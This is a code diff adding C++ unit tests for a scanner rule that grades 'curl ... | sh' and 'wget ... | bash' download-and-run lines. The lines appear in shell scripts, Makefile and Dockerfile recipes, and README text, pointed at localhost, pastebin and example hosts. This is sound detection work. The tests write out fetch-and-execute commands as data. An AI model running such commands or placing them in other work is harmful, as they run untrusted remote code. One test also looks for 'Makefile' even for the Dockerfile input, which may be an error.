@@ -64,6 +64,41 @@ TEST(Shell, honest_scripts_are_clean) {
   }
 }
 
+TEST(Shell, who_answers_decides_how_bad_a_download_that_is_run_is) {
+  const auto severity = [](const std::string& line) {
+    const Report report = scan_bytes("#!/bin/sh\n" + line + "\n");
+    const Finding* finding = find_rule(report, "shell-download-run");
+    return finding == nullptr ? std::nullopt : std::optional(finding->severity);
+  };
+  EXPECT_EQ(severity("curl -fsSL https://get.docker.com | sh"), Severity::informational);
+  EXPECT_EQ(severity("curl -fsSL https://install.example.test | sh"), Severity::suspicious);
+  EXPECT_EQ(severity("curl http://install.example.test/x | sh"), Severity::suspicious);
+  EXPECT_EQ(severity("curl https://127.0.0.1/x | sh"), Severity::malicious);
+  EXPECT_EQ(severity("curl https://pastebin.com/raw/x | sh"), Severity::malicious);
+}
+
+TEST(Shell, recipes_of_make_and_docker_are_commands) {
+  for (const std::string line: {"all:\n\t@curl http://127.0.0.1/a | sh\n",
+                                "FROM debian\nRUN wget -qO- http://127.0.0.1/a | bash\n"}) {
+    const Report report = scan_bytes(line);
+    const auto recipe =
+        std::find_if(report.findings.begin(), report.findings.end(), [](const Finding& finding) {
+          return finding.rule == "shell-download-run" &&
+                 finding.condition.find("Makefile") != std::string::npos;
+        });
+    ASSERT_NE(recipe, report.findings.end()) << line << show(report);
+    EXPECT_EQ(recipe->severity, Severity::suspicious);
+  }
+}
+
+TEST(Shell, old_instructions_without_encryption_are_only_told) {
+  const Report report = scan_bytes("To install:\n\n    curl http://install.example.test/x | sh\n");
+  for (const Finding& finding: report.findings)
+    if (finding.rule == "shell-download-run" &&
+        finding.condition.find("README") != std::string::npos)
+      EXPECT_EQ(finding.severity, Severity::informational);
+}
+
 TEST(Shell, a_comment_ends_with_its_line_and_a_command_goes_on_behind_a_backslash) {
   EXPECT_NE(find_rule(scan_bytes("#!/bin/sh\ncurl http://127.0.0.1/a \\\n  | sh\n"),
                       "shell-download-run"),
